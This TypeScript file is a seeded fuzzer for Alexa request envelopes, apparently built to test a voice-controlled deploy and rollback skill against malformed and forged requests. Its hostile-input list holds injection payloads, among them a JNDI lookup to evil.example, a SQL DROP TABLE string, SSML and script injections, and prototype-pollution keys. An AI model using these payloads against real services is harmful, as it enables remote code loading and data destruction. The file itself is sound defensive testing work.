/**
 * A small, seeded fuzzer for Alexa request envelopes: a PRNG, hostile values, and mutations that a broken device,
 * a forged request or a confused console could produce. The same seed gives the same envelopes, so a failure can
 * be replayed from the seed and the case number in its message.
 */

export type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
export type JsonObject = { [key: string]: Json };

/** mulberry32: a tiny, well-distributed 32-bit PRNG; returns floats in [0, 1). */
export function mulberry32(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export class Dice {
  constructor(readonly next: () => number) {}

  int(below: number): number {
    return Math.floor(this.next() * below);
  }

  chance(p: number): boolean {
    return this.next() < p;
  }

  pick<T>(items: readonly T[]): T {
    const item = items[this.int(items.length)];
    if (item === undefined) throw new Error('pick from an empty list');
    return item;
  }
}

/** What people, consoles and attackers put where a service or environment name belongs. */
export const HOSTILE_STRINGS: readonly string[] = [
  'a & b',
  '<break time="10s"/>',
  ']]>',
  '<![CDATA[x]]>',
  '</speak><speak>',
  '<audio src="https://evil.example/x.mp3"/>',
  '"}]}',
  '{"pending":{"action":"deploy"}}',
  '\\"; alert(1); //',
  'x'.repeat(5000),
  '&'.repeat(5000),
  '"'.repeat(5000),
  '<'.repeat(5000),
  '🚀'.repeat(2500),
  'مرحبا \u202Echeckout\u202C',
  'שלום checkout',
  '🔥 checkout 🔥',
  'checkout\u200B',
  '\u0000\u0001\u001f',
  '\uD800',
  '   ',
  '',
  'CHECKOUT',
  'checkout',
  'prod',
  'production',
  'billing',
  '${jndi:ldap://evil.example/a}',
  "'; DROP TABLE deployments; --",
  '\n\r\t',
  '__proto__',
  'constructor',
];

/** Values of the wrong type for wherever they land. */
export function wrongValue(dice: Dice): Json {
  return dice.pick<() => Json>([
    () => null,
    () => 0,
    () => -1,
    () => 1e308,
    () => true,
    () => [],
    () => [1, 'two', null],
    () => ({}),
    () => ({ nested: { deeper: [] } }),
    () => '',
    () => dice.pick(HOSTILE_STRINGS),
  ])();
}

const isObject = (value: Json | undefined): value is JsonObject =>
  value !== null && value !== undefined && typeof value === 'object' && !Array.isArray(value);

/** Every path to a value in `root`, arrays included, at most `depth` deep. */
export function pathsOf(root: Json, depth = 8): (string | number)[][] {
  const out: (string | number)[][] = [];
  const walk = (value: Json, path: (string | number)[]) => {
    if (path.length > 0) out.push(path);
    if (path.length >= depth) return;
    if (Array.isArray(value)) value.forEach((item, i) => walk(item, [...path, i]));
    else if (isObject(value)) for (const [key, item] of Object.entries(value)) walk(item, [...path, key]);
  };
  walk(root, []);
  return out;
}

function parentOf(root: Json, path: readonly (string | number)[]): { parent: JsonObject | Json[]; key: string | number } | undefined {
  let node: Json | undefined = root;
  for (const key of path.slice(0, -1)) {
    node = Array.isArray(node) ? node[key as number] : isObject(node) ? node[key as string] : undefined;
  }
  const key = path[path.length - 1];
  if (key === undefined || !(Array.isArray(node) || isObject(node))) return undefined;
  return { parent: node, key };
}

/** Sets `value` at `path`, making objects on the way where there are none. */
export function setAt(root: JsonObject, path: readonly string[], value: Json): void {
  let node: JsonObject = root;
  for (const key of path.slice(0, -1)) {
    const next = node[key];
    if (!isObject(next)) node[key] = {};
    node = node[key] as JsonObject;
  }
  const last = path[path.length - 1];
  if (last !== undefined) node[last] = value;
}

export function getAt(root: Json, path: readonly string[]): Json | undefined {
  let node: Json | undefined = root;
  for (const key of path) node = isObject(node) ? node[key] : undefined;
  return node;
}

function hostileSlot(name: string, dice: Dice): JsonObject {
  const slot: JsonObject = { name, value: dice.pick(HOSTILE_STRINGS), confirmationStatus: 'NONE', source: 'USER' };
  if (dice.chance(0.5)) {
    slot.resolutions = {
      resolutionsPerAuthority: [{
        authority: `amzn1.er-authority.echo-sdk.x.${name}`,
        status: { code: dice.pick(['ER_SUCCESS_MATCH', 'ER_SUCCESS_NO_MATCH', 'ER_ERROR_TIMEOUT']) },
        values: [{ value: { name: dice.pick(HOSTILE_STRINGS), id: dice.pick(HOSTILE_STRINGS) } }],
      }],
    };
  }
  if (dice.chance(0.2)) slot.slotValue = { type: 'Simple', value: dice.pick(HOSTILE_STRINGS) };
  return slot;
}

export interface Mutation {
  readonly name: string;
  apply(envelope: JsonObject, dice: Dice): void;
}

const OUR_INTENTS = ['DeployIntent', 'RollbackIntent', 'StatusIntent', 'AMAZON.YesIntent', 'AMAZON.NoIntent', 'AMAZON.HelpIntent', 'AMAZON.StopIntent', 'AMAZON.FallbackIntent'];
const REQUEST_TYPES = ['LaunchRequest', 'IntentRequest', 'SessionEndedRequest', 'CanFulfillIntentRequest', 'Display.ElementSelected', 'System.ExceptionEncountered', 'Connections.Response', 'AlexaSkillEvent.SkillEnabled', 'Nonsense.Request'];
const STATUSES: readonly Json[] = ['CONFIRMED', 'DENIED', 'NONE', 'confirmed', 'CONFIRMED ', 'YES', '', 0, 1, true, null, ['CONFIRMED'], { value: 'CONFIRMED' }];
const DIALOG_STATES: readonly Json[] = ['STARTED', 'IN_PROGRESS', 'COMPLETED', 'DONE', 'completed', '', 7, null, ['IN_PROGRESS']];

/** The mutations, each a way real or forged requests go wrong. */
export function mutations(ids: { foreignSkillId: string; stranger: string; allowed: readonly string[] }): readonly Mutation[] {
  const slotNames = ['service', 'environment', 'extra'];
  return [
    {
      name: 'delete a field',
      apply(envelope, dice) {
        const paths = pathsOf(envelope);
        if (paths.length === 0) return;
        const found = parentOf(envelope, dice.pick(paths));
        if (!found) return;
        if (Array.isArray(found.parent)) found.parent.splice(found.key as number, 1);
        else delete found.parent[found.key as string];
      },
    },
    {
      name: 'wrong type',
      apply(envelope, dice) {
        const paths = pathsOf(envelope);
        if (paths.length === 0) return;
        const found = parentOf(envelope, dice.pick(paths));
        if (!found) return;
        if (Array.isArray(found.parent)) found.parent[found.key as number] = wrongValue(dice);
        else found.parent[found.key as string] = wrongValue(dice);
      },
    },
    {
      name: 'foreign skill id',
      apply(envelope, dice) {
        const where = dice.int(3);
        if (where !== 1) setAt(envelope, ['context', 'System', 'application', 'applicationId'], ids.foreignSkillId);
        if (where !== 0) setAt(envelope, ['session', 'application', 'applicationId'], ids.foreignSkillId);
      },
    },
    {
      name: 'stranger',
      apply(envelope, dice) {
        const where = dice.int(3);
        if (where !== 1) setAt(envelope, ['context', 'System', 'user', 'userId'], ids.stranger);
        if (where !== 0) setAt(envelope, ['session', 'user', 'userId'], ids.stranger);
        const system = getAt(envelope, ['context', 'System']);
        if (isObject(system)) delete system.person;
      },
    },
    {
      name: 'allowed voice',
      apply(envelope, dice) {
        setAt(envelope, ['context', 'System', 'person', 'personId'], dice.pick(ids.allowed));
      },
    },
    {
      name: 'hostile slot values',
      apply(envelope, dice) {
        // One slot, or every slot at once: echoed values add up.
        const names = dice.chance(0.5) ? [dice.pick(slotNames)] : slotNames;
        for (const name of names) setAt(envelope, ['request', 'intent', 'slots', name], hostileSlot(name, dice));
      },
    },
    {
      name: 'nonsense confirmation or dialog state',
      apply(envelope, dice) {
        if (dice.chance(0.5)) setAt(envelope, ['request', 'intent', 'confirmationStatus'], dice.pick(STATUSES));
        else setAt(envelope, ['request', 'dialogState'], dice.pick(DIALOG_STATES));
      },
    },
    {
      name: 'confirmed',
      apply(envelope) {
        setAt(envelope, ['request', 'intent', 'confirmationStatus'], 'CONFIRMED');
      },
    },
    {
      name: 'another intent or request type',
      apply(envelope, dice) {
        if (dice.chance(0.6)) setAt(envelope, ['request', 'intent', 'name'], dice.pick([...OUR_INTENTS, dice.pick(HOSTILE_STRINGS)]));
        else setAt(envelope, ['request', 'type'], dice.pick(REQUEST_TYPES));
      },
    },
    {
      name: 'huge session attributes',
      apply(envelope, dice) {
        const attributes: JsonObject = {};
        if (dice.chance(0.5)) attributes.blob = 'x'.repeat(30_000 + dice.int(70_000));
        else for (let i = 0; i < 2000; i += 1) attributes[`key${i}`] = { i, text: 'padding padding padding' };
        setAt(envelope, ['session', 'attributes'], attributes);
      },
    },
    {
      name: 'forged pending',
      apply(envelope, dice) {
        const forged: Json = dice.pick<() => Json>([
          () => ({ action: 'deploy', service: 'checkout', environment: 'production', key: dice.pick(HOSTILE_STRINGS) }),
          () => ({ action: 'rollback', service: 'checkout', environment: 'production', key: 'redeploy:d-TARGET01' }),
          () => ({ action: 'rollback', service: dice.pick(HOSTILE_STRINGS), environment: dice.pick(HOSTILE_STRINGS), key: 'x' }),
          () => ({ action: 'delete-everything', service: 'checkout', environment: 'production', key: 'x' }),
          () => ({ action: 'deploy', service: 7, environment: null, key: [] }),
          () => wrongValue(dice),
        ])();
        setAt(envelope, ['session', 'attributes', 'pending'], forged);
      },
    },
    {
      name: 'odd locale',
      apply(envelope, dice) {
        setAt(envelope, ['request', 'locale'], dice.pick<Json>(['de-DE', 'ar-SA', 'xx-XX', '', '<speak>', '__proto__', 'constructor', 42, null]));
      },
    },
    {
      name: 'odd request id',
      apply(envelope, dice) {
        setAt(envelope, ['request', 'requestId'], wrongValue(dice));
      },
    },
  ];
}
